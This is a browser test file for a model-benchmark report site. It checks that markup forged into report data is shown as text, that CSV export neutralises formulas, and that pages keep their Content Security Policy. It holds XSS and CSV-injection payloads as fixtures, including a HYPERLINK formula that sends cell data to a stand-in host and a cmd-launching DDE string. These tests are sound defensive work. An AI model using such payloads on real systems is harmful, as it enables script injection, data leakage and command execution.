// The pages against a hostile report, in a real headless Chromium: every
// value the report page shows (figures, names, reasons, paths, counts) is
// markup an attacker chose, as if it had been forged into the database.
// Nothing of it runs, all of it is shown as text, and the pages break no
// rule of their own Content Security Policy. Run by scripts/test beside the
// browser journey (SITE_URL: the running product).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { launch } from '../browser/browser.mjs';

const site = process.env.SITE_URL || 'http://127.0.0.1:8787';

const X = '<img src=x onerror="window.__xss=(window.__xss||0)+1">';
const REPORT = '00000000-0000-4000-8000-0000000000aa';
const models = ['m/one', 'm/two'];

// A report where every string and every number the page shows is X.
const forged = {
  id: REPORT, name: X, status: 'complete', status_reason: X, cut_short: true,
  created_at: '2026-12-01T00:00:00Z', started_at: '2026-12-01T00:00:00Z', finished_at: '2026-12-01T00:10:00Z',
  runs_planned: X, runs_done: X, cost_spent: X, prompt: X, json_schema: { title: X },
  owner: false, share_token: null, refunded_at: null,
  models: models.map((id) => ({ id, display_name: X, prices: { prompt_usd_per_mtok: X, completion_usd_per_mtok: X } })),
  documents: [{ index: X, name: X, expected: { total: X } }, { index: 1, name: X, expected: { total: 1 } }],
  summary: models.map((model_id) => ({ model_id, runs: X, passed: X, errors: X, accuracy: X, field_accuracy: X,
    total_cost: X, median_latency_ms: X, p95_latency_ms: X })),
  figures: {
    models: models.map((model_id) => ({ model_id, display_name: X, pass_interval: [X, X], field_interval: [X, X],
      cost_per_1000_usd: X, latency_n: X, latency_p95_ms: X })),
    verdicts: { accuracy: X, cost: X, speed: X },
    sample_warning: X,
    fields: [{ path: X, of: X, right: [X, 0] }, { path: 'total', of: 2, right: [1, 2] }],
  },
};
const runs = models.flatMap((model_id) => [X, 1].map((image_index) => ({
  model_id, image_index, output_json: X, response_time_ms: X, prompt_tokens: X, completion_tokens: X,
  total_tokens: X, cost: X, passed: false, fields_total: X, fields_matched: X, error: null,
  field_diffs: [{ path: X, kind: 'mismatch', expected: X, actual: X }, { path: 'total', kind: X, note: X },
                { path: '', kind: 'note', note: X }],
})));

test('a report whose every value is markup shows it as text and runs none of it', { timeout: 60_000 }, async () => {
  const browser = await launch();
  try {
    const page = await (await browser.newContext()).newPage();
    const violations = [];
    page.on('console', (m) => { if (/Content Security Policy/.test(m.text())) violations.push(m.text()); });
    page.on('dialog', (d) => { violations.push(`a dialog: ${d.message()}`); d.dismiss(); });
    await page.route('**/rest/v1/rpc/read_report_runs*', (route) => route.fulfill({ json: runs }));
    await page.route('**/rest/v1/rpc/read_report', (route) => route.fulfill({ json: forged }));
    await page.route('**/rest/v1/rpc/read_report?*', (route) => route.fulfill({ json: forged }));
    await page.goto(`${site}/report/${REPORT}?share=anything`);
    await page.waitForSelector('#ranking tbody tr');
    await page.waitForFunction(() => document.querySelectorAll('#diffs details').length > 0);
    // Open every document and a field-map cell, so that their markup is made too.
    await page.evaluate(() => document.querySelectorAll('details').forEach((d) => { d.open = true; }));
    const cell = page.locator('#field-map button.cell').first();
    if (await cell.count()) await cell.click();
    await page.waitForTimeout(300);

    assert.equal(await page.evaluate(() => window.__xss), undefined, 'no injected handler ran');
    assert.equal(await page.locator('img[src="x"]').count(), 0, 'no injected element was made');
    const shown = await page.locator('main').innerText();
    assert.ok(shown.split('<img src=x').length > 10, 'the markup is shown, as text, where the values go');
    assert.deepEqual(violations, [], 'the page broke no rule of its policy');
  } finally {
    await browser.close();
  }
});

test('the CSV download quotes every cell and runs no formula a model answered', { timeout: 60_000 }, async () => {
  const browser = await launch();
  try {
    const page = await (await browser.newContext({ acceptDownloads: true })).newPage();
    const steered = [
      { model_id: '=HYPERLINK("http://evil.example/?"&A1,"Open")', image_index: 1, output_json: '+1+cmd|\' /C calc\'!A0',
        error: 'line one\rline two', passed: false, fields_total: 2, fields_matched: 1, cost: '0.001', response_time_ms: 10 },
      { model_id: 'm/two', image_index: 1, output_json: '@SUM(1,2)', error: '-2+3', passed: true,
        fields_total: 2, fields_matched: 2, cost: '0.002', response_time_ms: 20 },
      { model_id: 'm/one', image_index: 1, output_json: '\t=1+1', error: null, passed: true,
        fields_total: 2, fields_matched: 2, cost: '0.003', response_time_ms: 30 },
    ];
    const report = { ...forged, name: 'csv', documents: [{ index: 1, name: '=cmd()', expected: { total: 1 } }] };
    await page.route('**/rest/v1/rpc/read_report_runs*', (route) => route.fulfill({ json: steered }));
    await page.route('**/rest/v1/rpc/read_report', (route) => route.fulfill({ json: report }));
    await page.route('**/rest/v1/rpc/read_report?*', (route) => route.fulfill({ json: report }));
    await page.goto(`${site}/report/${REPORT}?share=anything`);
    await page.waitForSelector('#ranking tbody tr');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
    const csv = await (await download.createReadStream()).toArray().then((parts) => Buffer.concat(parts).toString('utf8'));
    const rows = csv.split('\r\n');
    assert.equal(rows.length, 4, 'a header and three runs, a CR inside a cell ending no row');
    assert.equal(rows[1], `'=cmd(),"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",1,false,1,2,0.001,10,"line one\rline two",'+1+cmd|' /C calc'!A0`);
    assert.equal(rows[2], `'=cmd(),m/two,1,true,2,2,0.002,20,'-2+3,"'@SUM(1,2)"`);
    assert.equal(rows[3], `'=cmd(),m/one,1,true,2,2,0.003,30,,'\t=1+1`);
    for (const row of rows.slice(1)) {
      for (const cell of row.match(/("([^"]|"")*"|[^,]*)(,|$)/g).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))) {
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`);
      }
    }
  } finally {
    await browser.close();
  }
});

test('no page of the product breaks its own Content Security Policy', { timeout: 60_000 }, async () => {
  const browser = await launch();
  try {
    const page = await (await browser.newContext()).newPage();
    const violations = [];
    page.on('console', (m) => { if (/Content Security Policy/.test(m.text())) violations.push(`${page.url()}: ${m.text()}`); });
    for (const path of ['/sign-in', '/sign-up', '/forgot-password', '/reset-password', '/unsubscribe?token=x', '/scoring', '/checkout/cancel', `/report/${REPORT}?share=x`,
                        `/compare?a=${REPORT}&b=00000000-0000-4000-8000-000000000001&share_a=x&share_b=y`]) {
      const response = await page.goto(`${site}${path}`);
      assert.match(response.headers()['content-security-policy'], /script-src 'self';/, path);
      await page.waitForLoadState('networkidle');
    }
    await page.fill('#email', 'demo@modelpick.local').catch(() => {});
    await page.goto(`${site}/sign-in`);
    await page.fill('#email', 'demo@modelpick.local');
    await page.fill('#password', 'modelpick-demo');
    await page.click('#submit');
    await page.waitForURL(`${site}/`);
    for (const path of ['/', '/benchmark/new']) {
      await page.goto(`${site}${path}`);
      await page.waitForLoadState('networkidle');
    }
    // An inline script put into a page the way an injection would is refused.
    const ran = await page.evaluate(() => new Promise((resolve) => {
      window.__inline = false;
      const s = document.createElement('script');
      s.textContent = 'window.__inline = true';
      document.body.append(s);
      setTimeout(() => resolve(window.__inline), 100);
    }));
    assert.equal(ran, false, 'an injected inline script does not run');
    assert.deepEqual(violations.filter((v) => !/__inline|inline script/i.test(v)), [], 'only the injected script was refused');
  } finally {
    await browser.close();
  }
});
